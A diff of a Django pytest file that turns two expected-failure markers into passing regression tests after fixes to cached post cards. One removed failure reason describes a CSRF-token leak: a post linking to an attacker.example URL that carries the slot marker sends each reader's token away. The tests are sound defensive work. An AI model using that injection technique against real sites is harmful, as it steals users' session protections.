@@ -20,7 +20,7 @@ from unittest import mock
 
 import pytest
 from django.template import Engine, RequestContext
-from django.test import Client, RequestFactory
+from django.test import Client, RequestFactory, override_settings
 from django.utils import timezone, translation
 
 from essaim.accounts.models import User
@@ -236,16 +236,7 @@ CHANGES = [
     pytest.param(_rename_commenter, id="commenter-name"),
     pytest.param(_new_photo, id="author-photo"),
     pytest.param(_announce, id="announcement"),
-    pytest.param(
-        _new_handle,
-        id="author-handle",
-        marks=pytest.mark.xfail(
-            strict=True,
-            reason="BUG essaim/stream/cards.py:43 _person() leaves out user.handle, which the card links to "
-            "(post_links author=/@handle, comment_links): after a handle change the shared card keeps a "
-            "dead /@old-handle link until the entry ages out (CARD_TIMEOUT, 24 h)",
-        ),
-    ),
+    pytest.param(_new_handle, id="author-handle"),
 ]
 
 
@@ -342,8 +333,7 @@ class TestHomePage:
         for viewer in viewers:  # the second page is assembled from cached cards
             page = _signed_in(viewer).get("/").text
             assert page.count('class="card post') == 5
-            assert cards.CSRF_SLOT not in page
-            assert cards.NEXT_SLOT not in page
+            assert not any(slot in page for slot in cards.slots())
 
     def test_the_second_viewers_cards_come_from_the_cache(
         self, home_posts: list[Post], viewers: tuple[User, User]
@@ -443,15 +433,19 @@ class TestAuthorsCard:
 # --- the slots are the card's, not the writer's ---------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG essaim/stream/cards.py:116 render_cards() replaces CSRF_SLOT / NEXT_SLOT in the whole card, "
-    "including the post's own text: a post whose body contains 'essaim-csrf-slot-3f9c1b' (e.g. in a link "
-    "[doc](https://attacker.example/?t=essaim-csrf-slot-3f9c1b)) shows every reader their own CSRF token "
-    "there, and the link sends it away when clicked",
-)
-@pytest.mark.parametrize("slot", [cards.CSRF_SLOT, cards.NEXT_SLOT], ids=["csrf", "next"])
-def test_a_post_that_quotes_a_slot_shows_it_as_written(
+def test_the_slots_come_from_the_secret_key_so_no_post_can_quote_them() -> None:
+    slots = cards.slots()
+    with override_settings(SECRET_KEY="another-secret-key-for-this-test-0123456789abcdef"):
+        assert set(cards.slots()).isdisjoint(slots)
+    assert all(len(slot.rsplit("-", 1)[1]) >= 24 for slot in slots)  # 96 bits: not guessable
+
+
+# A marker someone could guess from the code (the form they had before they came from the key).
+GUESSABLE = ["essaim-csrf-slot-3f9c1b", "/essaim-next-slot-3f9c1b", "essaim-csrf-", "/essaim-next-"]
+
+
+@pytest.mark.parametrize("slot", GUESSABLE)
+def test_a_post_that_quotes_a_marker_shows_it_as_written(
     slot: str, author: User, viewers: tuple[User, User], make_post: Callable[..., Post]
 ) -> None:
     Follow.objects.create(follower=viewers[0], followed=author)
